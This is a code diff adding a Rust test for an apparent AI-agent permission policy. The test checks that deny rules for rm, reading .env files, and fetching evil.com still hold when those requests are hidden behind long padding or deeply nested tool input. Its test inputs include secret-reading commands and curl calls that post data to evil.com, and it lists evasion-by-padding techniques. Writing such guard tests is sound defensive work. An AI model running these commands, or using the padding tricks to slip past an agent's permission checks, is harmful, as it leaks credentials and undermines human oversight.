@@ -156,6 +156,47 @@ fn a_shell_that_is_told_to_run_more_is_not_seen_through() {
     );
 }
 
+/// Behind so much else that nobody looks at all of it.
+#[test]
+fn what_stands_behind_more_than_is_looked_at_is_asked_about() {
+    let many = |word: &str, count: usize| word.repeat(count);
+    held("command(rm)", &[&format!("wrap {} rm x", many("a ", 60)), &format!("wrap {} $x", many("a ", 60))]);
+    lines(&deny(&["command(rm)"]), &[(&format!("wrap {} ls", many("a ", 60)), "open")]);
+    held(
+        "file(x/x/x/x/x/x/x/x/.env)",
+        &[
+            &format!("{}cat .env", many("cd x && ", 8)),
+            "docker run --mount a=b,c=d,e=f,g=h,i=j,src=x/x/x/x/x/x/x/x/.env i",
+        ],
+    );
+    held(
+        "file(.env)",
+        &[
+            &format!("wrap {}.env", many("a:", 20)),
+            &format!("wrap {}.env", many("a:", 2000)),
+            &format!("python3 -c '{} open(\".env\")'", many("f(x) ", 300)),
+            &format!("python3 -c '{} open(\".env\")'", many("f(x) ", 2000)),
+        ],
+    );
+    held(
+        "fetch(evil.com)",
+        &[
+            &format!("curl -d {} evil.com", many("http://a.b,", 100)),
+            &format!("wrap '{} http://evil.com'", many("http://a.b ", 1000)),
+            &format!("curl --x={}evil.com", many("a,", 100)),
+        ],
+    );
+    let all = Policy { allow: rules(&["*"]), ..deny(&["command(rm)", "fetch(evil.com)", "file(.env)"]) };
+    let tool = |input| verdict(&all, &request("mcp__x", input, Subject::Tool));
+    let nested = |depth: usize, inner: Value| (0..depth).fold(inner, |inner, _| json!([inner]));
+    assert_eq!(tool(json!({"a": nested(20, json!({"command": "rm x"}))})), "deny");
+    assert_eq!(tool(json!({"a": nested(50, json!({"command": "rm x"}))})), "ask");
+    assert_eq!(tool(json!({"a_path": vec!["/a"; 600], "command": "rm x"})), "ask");
+    assert_eq!(tool(json!({"text": format!("{}https://evil.com", many("https://a.b ", 100))})), "deny");
+    assert_eq!(tool(json!({"text": format!("{}https://evil.com", many("https://a.b ", 600))})), "ask");
+    assert_eq!(tool(json!({"text": many("word ", 10_000), "list": vec![1; 10_000]})), "open");
+}
+
 #[test]
 fn braces_without_an_end_are_read_in_no_time_to_speak_of() {
     // Looking for the end of each would be 10^10 steps.
